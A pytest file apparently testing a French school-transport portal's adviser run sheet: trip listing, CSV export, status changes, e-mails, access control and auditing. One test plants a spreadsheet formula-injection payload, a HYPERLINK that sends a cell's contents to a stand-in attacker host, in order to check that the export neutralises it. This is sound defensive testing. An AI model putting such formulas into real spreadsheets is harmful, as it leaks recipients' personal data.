"""The transport provider's run sheet (adviser back-office) and the trip statuses set by advisers."""

from __future__ import annotations

import csv
import io
from dataclasses import dataclass
from datetime import date

import pytest

from portal_app.db.models import AuditEvent, Trip
from portal_app.domain import run_sheet, trips
from portal_app.domain.errors import NotAllowed, NotFound, ValidationError

from .advisers_support import enrol_adviser, pending_adviser, relogin_adviser
from .support import CLAIRE, PAUL, Member, account_of, all_rows, mails_to
from .trips_support import (
    add_home,
    add_school,
    beneficiary_id,
    entitlement,
    open_transport,
    paris,
    relogin,
    request,
    trip_rows,
)

DAY = "2026-11-09"


@pytest.fixture(autouse=True)
def _monday_after_all_saints(frozen_clock):
    """Monday 2 November 2026, 10:00 in Paris, before anyone logs in (sessions idle out after 30 min)."""
    frozen_clock.set(paris(2026, 11, 2, 10, 0))
    return frozen_clock


@pytest.fixture
def adviser():
    return enrol_adviser()


@dataclass
class Day:
    """Monday 9 November 2026: Hugo at 07:45, Léa at 08:15 (with a note), Zoé at 08:00, a cancelled trip."""

    claire: Member
    paul: Member
    claire_rights: int
    lea_trip: int
    hugo_trip: int
    zoe_trip: int
    cancelled_trip: int


@pytest.fixture
def day(adviser, claire, paul) -> Day:
    claire_rights = open_transport(adviser, CLAIRE)
    open_transport(adviser, PAUL)
    home = add_home(claire, complement="Bâtiment B")
    school = add_school(claire)
    lea, hugo = beneficiary_id(CLAIRE, "Léa"), beneficiary_id(CLAIRE, "Hugo")
    trips.book(claire.token, request(lea, home, school, DAY, notes="Sonner chez Martin"))
    trips.book(claire.token, request(hugo, home, school, DAY, outward_time="07:45"))
    trips.book(claire.token, request(lea, home, school, "2026-11-10"))
    trips.book(claire.token, request(hugo, home, school, DAY, directions=("retour",), return_time="16:30"))
    paul_home = add_home(paul, street="quai du Port", street_number="8", postcode="13002", city="Marseille")
    paul_school = add_school(paul, street="rue Caisserie", street_number="2", postcode="13002", city="marseille")
    trips.book(paul.token, request(beneficiary_id(PAUL, "Zoé"), paul_home, paul_school, DAY, outward_time="08:00"))

    def trip_of(child: int, direction: str = "aller") -> int:
        return trip_rows(
            Trip.beneficiary_id == child, Trip.trip_date == date.fromisoformat(DAY), Trip.direction == direction
        )[0].id

    cancelled = trip_of(hugo, "retour")
    trips.cancel(claire.token, cancelled)
    return Day(
        claire, paul, claire_rights, trip_of(lea), trip_of(hugo), trip_of(beneficiary_id(PAUL, "Zoé")), cancelled
    )


def status_of(trip_id: int) -> str:
    return trip_rows(Trip.id == trip_id)[0].status


def trip_mails(member: Member) -> list[str]:
    return [m.subject for m in mails_to(member.email) if m.subject.startswith("Trajet")]


# --- the sheet ------------------------------------------------------------------------------------


def test_the_sheet_lists_the_trips_of_the_day_sorted_by_time(adviser, day):
    lines = run_sheet.run_sheet(adviser.token, DAY)
    assert [(line.pickup_time, line.child) for line in lines] == [
        ("07:45", "Hugo M."),
        ("08:00", "Zoé D."),
        ("08:15", "Léa M."),
    ]


def test_each_line_has_the_full_addresses_the_members_phone_and_the_notes(adviser, day):
    lines = {line.trip_id: line for line in run_sheet.run_sheet(adviser.token, DAY)}
    lea = lines[day.lea_trip]
    assert lea.pickup == "12 rue Oberkampf, Bâtiment B, 75011 Paris"
    assert lea.dropoff == "5 rue Saint-Maur, 75011 Paris"
    assert (lea.phone, lea.notes, lea.status_label) == ("06 12 34 56 78", "Sonner chez Martin", "planifié")
    zoe = lines[day.zoe_trip]
    assert (zoe.pickup, zoe.dropoff) == ("8 quai du Port, 13002 Marseille", "2 rue Caisserie, 13002 Marseille")
    assert zoe.phone == "07 51 23 45 67"


def test_cancelled_trips_and_other_days_are_not_on_the_sheet(adviser, day):
    ids = [line.trip_id for line in run_sheet.run_sheet(adviser.token, DAY)]
    assert day.cancelled_trip not in ids and len(ids) == 3
    assert [line.child for line in run_sheet.run_sheet(adviser.token, "2026-11-10")] == ["Léa M."]
    assert run_sheet.run_sheet(adviser.token, "2026-11-11") == []


def test_a_trip_cancelled_by_the_platform_leaves_the_sheet(adviser, day):
    run_sheet.set_status(adviser.token, day.zoe_trip, "cancelled")
    assert [line.child for line in run_sheet.run_sheet(adviser.token, DAY)] == ["Hugo M.", "Léa M."]


def test_the_csv_is_utf8_separated_by_semicolons_with_the_header_first(adviser, day):
    data = run_sheet.run_sheet_csv(adviser.token, DAY).encode("utf-8")
    text = data.decode("utf-8-sig")
    assert data.startswith(b"\xef\xbb\xbf")  # so that spreadsheet software reads the accents
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0] == ["heure", "enfant", "prise_en_charge", "destination", "telephone_parent", "remarques", "statut"]
    assert rows[1:] == [
        [
            "07:45",
            "Hugo M.",
            "12 rue Oberkampf, Bâtiment B, 75011 Paris",
            "5 rue Saint-Maur, 75011 Paris",
            "06 12 34 56 78",
            "",
            "planifié",
        ],
        [
            "08:00",
            "Zoé D.",
            "8 quai du Port, 13002 Marseille",
            "2 rue Caisserie, 13002 Marseille",
            "07 51 23 45 67",
            "",
            "planifié",
        ],
        [
            "08:15",
            "Léa M.",
            "12 rue Oberkampf, Bâtiment B, 75011 Paris",
            "5 rue Saint-Maur, 75011 Paris",
            "06 12 34 56 78",
            "Sonner chez Martin",
            "planifié",
        ],
    ]


def test_a_day_that_is_not_a_date_is_refused(adviser):
    with pytest.raises(ValidationError) as refused:
        run_sheet.run_sheet(adviser.token, "09/11/2026")
    assert set(refused.value.errors) == {"day"}


# --- statuses set by the platform -----------------------------------------------------------------


def test_a_confirmed_trip_shows_confirmed_to_the_member_who_gets_an_email(adviser, day):
    assert run_sheet.set_status(adviser.token, day.lea_trip, "confirmed") == "Trajet confirmé."
    upcoming, _past = trips.list_trips(day.claire.token)
    assert {t.trip_id: t.status_label for t in upcoming}[day.lea_trip] == "confirmé"
    assert trip_mails(day.claire) == ["Trajet de Léa du lundi 9 novembre 2026 : confirmé – Espace Assistance"]
    body = [m.body for m in mails_to(day.claire.email) if m.subject.startswith("Trajet")][0]
    assert "prise en charge à 08:15" in body and "/mon-espace/trajets" in body
    assert trip_mails(day.paul) == []


def test_a_trip_cancelled_by_the_platform_gives_the_entitlement_back_and_tells_the_member(adviser, day):
    used = entitlement(day.claire_rights).used
    run_sheet.set_status(adviser.token, day.lea_trip, "cancelled")
    assert status_of(day.lea_trip) == "cancelled"
    assert entitlement(day.claire_rights).used == used - 1
    assert trip_mails(day.claire) == ["Trajet de Léa du lundi 9 novembre 2026 : annulé – Espace Assistance"]
    _upcoming, past = trips.list_trips(day.claire.token)
    assert {t.trip_id: t.status_label for t in past}[day.lea_trip] == "annulé"


def test_done_and_not_done_only_from_the_trips_day(adviser, day, frozen_clock):
    for status in ("done", "not_done"):
        with pytest.raises(ValidationError):
            run_sheet.set_status(adviser.token, day.lea_trip, status)
    assert status_of(day.lea_trip) == "planned"
    frozen_clock.set(paris(2026, 11, 9, 8, 30))
    relogin_adviser(adviser)
    run_sheet.set_status(adviser.token, day.lea_trip, "done")
    run_sheet.set_status(adviser.token, day.hugo_trip, "not_done")
    assert (status_of(day.lea_trip), status_of(day.hugo_trip)) == ("done", "not_done")
    claire = relogin(day.claire)
    _upcoming, past = trips.list_trips(claire.token)
    labels = {t.trip_id: t.status_label for t in past}
    assert (labels[day.lea_trip], labels[day.hugo_trip]) == ("réalisé", "non réalisé")
    assert trip_mails(day.claire) == []  # only confirmations and cancellations are e-mailed


def test_a_mistaken_done_can_be_set_to_not_done_on_the_day(adviser, day, frozen_clock):
    frozen_clock.set(paris(2026, 11, 9, 18, 0))
    relogin_adviser(adviser)
    run_sheet.set_status(adviser.token, day.lea_trip, "done")
    run_sheet.set_status(adviser.token, day.lea_trip, "not_done")
    assert status_of(day.lea_trip) == "not_done"


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("confirmed", "confirmed"),
        ("cancelled", "confirmed"),
        ("cancelled", "done"),
        ("cancelled", "cancelled"),
        ("done", "confirmed"),
        ("done", "cancelled"),
        ("not_done", "cancelled"),
    ],
)
def test_invalid_transitions_are_refused(adviser, day, frozen_clock, before, after):
    frozen_clock.set(paris(2026, 11, 9, 9, 0))
    relogin_adviser(adviser)
    run_sheet.set_status(adviser.token, day.lea_trip, before)
    used = entitlement(day.claire_rights).used
    with pytest.raises(ValidationError):
        run_sheet.set_status(adviser.token, day.lea_trip, after)
    assert status_of(day.lea_trip) == before
    assert entitlement(day.claire_rights).used == used


def test_an_unknown_status_or_trip_is_refused(adviser, day):
    with pytest.raises(ValidationError):
        run_sheet.set_status(adviser.token, day.lea_trip, "perdu")
    with pytest.raises(NotFound):
        run_sheet.set_status(adviser.token, 987654, "confirmed")
    assert status_of(day.lea_trip) == "planned"


@pytest.mark.parametrize("who", ["member", "pending adviser", "nobody"])
def test_members_and_visitors_cannot_see_the_sheet_or_set_a_status(day, who):
    actor = {"member": day.claire.token, "pending adviser": pending_adviser(), "nobody": None}[who]
    for call in (
        lambda: run_sheet.run_sheet(actor, DAY),
        lambda: run_sheet.run_sheet_csv(actor, DAY),
        lambda: run_sheet.set_status(actor, day.lea_trip, "confirmed"),
        lambda: run_sheet.set_status(actor, day.lea_trip, "cancelled"),
    ):
        with pytest.raises(NotAllowed):
            call()
    assert status_of(day.lea_trip) == "planned"
    assert trip_mails(day.claire) == []
    assert all_rows(AuditEvent, AuditEvent.action.in_(["run_sheet_viewed", "trip_status_changed"])) == []


def test_every_adviser_action_on_trips_is_audited(adviser, day):
    run_sheet.run_sheet(adviser.token, DAY)
    run_sheet.run_sheet_csv(adviser.token, "2026-11-10")
    run_sheet.set_status(adviser.token, day.lea_trip, "confirmed")
    viewed = all_rows(AuditEvent, AuditEvent.action == "run_sheet_viewed")
    assert [(e.actor_role, e.detail) for e in viewed] == [("adviser", DAY), ("adviser", "2026-11-10")]
    [changed] = all_rows(AuditEvent, AuditEvent.action == "trip_status_changed")
    assert (changed.actor_role, changed.target_type, changed.target_id, changed.detail) == (
        "adviser",
        "trip",
        day.lea_trip,
        "confirmed",
    )
    assert changed.member_account_id == account_of(day.claire.email).id
    assert changed.actor_account_id == account_of(adviser.email).id


def test_a_refused_status_change_is_not_audited(adviser, day):
    with pytest.raises(ValidationError):
        run_sheet.set_status(adviser.token, day.cancelled_trip, "confirmed")
    assert all_rows(AuditEvent, AuditEvent.action == "trip_status_changed") == []


def test_a_member_changing_a_confirmed_trip_sends_it_back_to_planned(adviser, day):
    run_sheet.set_status(adviser.token, day.lea_trip, "confirmed")
    trips.change(day.claire.token, day.lea_trip, "08:30", "")
    assert status_of(day.lea_trip) == "planned"
    line = {line.trip_id: line for line in run_sheet.run_sheet(adviser.token, DAY)}[day.lea_trip]
    assert (line.pickup_time, line.status_label) == ("08:30", "planifié")


def test_a_hostile_remark_reaches_the_spreadsheet_as_text(adviser, claire):
    """Security review, finding 7: a member's remark must not run as a formula on the provider's computer."""
    open_transport(adviser, CLAIRE)
    home, school = add_home(claire, complement="@SUM(A1:A9)"), add_school(claire)
    hostile = '=HYPERLINK("http://pirate.example/?d="&C2;"Détails")'
    trips.book(claire.token, request(beneficiary_id(CLAIRE, "Léa"), home, school, DAY, notes=hostile))
    text = run_sheet.run_sheet_csv(adviser.token, DAY).lstrip("\ufeff")
    [row] = list(csv.reader(io.StringIO(text), delimiter=";"))[1:]
    assert row[5] == "'" + hostile
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


# --- which day, what each line offers -------------------------------------------------------------


@pytest.mark.parametrize(
    ("hour", "minute", "shown"),
    [
        (10, 30, "2026-11-02"),
        (12, 0, "2026-11-02"),
        (17, 59, "2026-11-02"),
        (18, 0, "2026-11-03"),
        (23, 30, "2026-11-03"),
    ],
)
def test_the_sheet_shows_today_before_18h_and_tomorrow_from_18h(adviser, frozen_clock, hour, minute, shown):
    frozen_clock.set(paris(2026, 11, 2, hour, minute))
    relogin_adviser(adviser)
    sheet = run_sheet.day_sheet(adviser.token)
    assert sheet.day == shown
    assert "18 h" in run_sheet.DEFAULT_DAY_RULE


def test_a_day_typed_empty_is_refused_not_replaced(adviser):
    with pytest.raises(ValidationError) as refused:
        run_sheet.day_sheet(adviser.token, "")
    assert set(refused.value.errors) == {"day"}


def test_the_sheet_says_its_day_and_how_many_trips_in_french(adviser, day):
    assert run_sheet.day_sheet(adviser.token, DAY).heading == "Trajets du lundi 9 novembre 2026 : 3 trajets"
    assert run_sheet.day_sheet(adviser.token, "2026-11-10").heading == "Trajets du mardi 10 novembre 2026 : 1 trajet"
    assert (
        run_sheet.day_sheet(adviser.token, "2026-11-11").heading
        == "Trajets du mercredi 11 novembre 2026 : aucun trajet"
    )
    assert run_sheet.day_sheet(adviser.token, "2026-12-01").heading.startswith("Trajets du mardi 1er décembre 2026")


def offered(adviser, trip_id: int, day: str = DAY) -> list[str]:
    return {line.trip_id: line.actions for line in run_sheet.day_sheet(adviser.token, day).lines}[trip_id]


def test_a_confirmed_trip_is_never_offered_confirm(adviser, day):
    assert offered(adviser, day.lea_trip) == ["confirmed", "cancelled"]
    run_sheet.set_status(adviser.token, day.lea_trip, "confirmed")
    assert offered(adviser, day.lea_trip) == ["cancelled"]


def test_done_and_not_done_are_offered_from_the_trips_day(adviser, day, frozen_clock):
    frozen_clock.set(paris(2026, 11, 9, 8, 30))
    relogin_adviser(adviser)
    run_sheet.set_status(adviser.token, day.hugo_trip, "confirmed")
    assert offered(adviser, day.lea_trip) == ["confirmed", "done", "not_done", "cancelled"]
    assert offered(adviser, day.hugo_trip) == ["done", "not_done", "cancelled"]
    run_sheet.set_status(adviser.token, day.lea_trip, "done")
    run_sheet.set_status(adviser.token, day.hugo_trip, "not_done")
    assert offered(adviser, day.lea_trip) == ["not_done"]
    assert offered(adviser, day.hugo_trip) == ["done"]


def test_every_action_offered_is_accepted_and_no_other(adviser, day, frozen_clock):
    frozen_clock.set(paris(2026, 11, 9, 8, 30))
    relogin_adviser(adviser)
    run_sheet.set_status(adviser.token, day.hugo_trip, "confirmed")
    for line in run_sheet.day_sheet(adviser.token, DAY).lines:
        for status in run_sheet.ADVISER_STATUSES:
            if status not in line.actions:
                with pytest.raises(ValidationError):
                    run_sheet.set_status(adviser.token, line.trip_id, status)
    [zoe] = [line for line in run_sheet.day_sheet(adviser.token, DAY).lines if line.trip_id == day.zoe_trip]
    run_sheet.set_status(adviser.token, zoe.trip_id, zoe.actions[0])
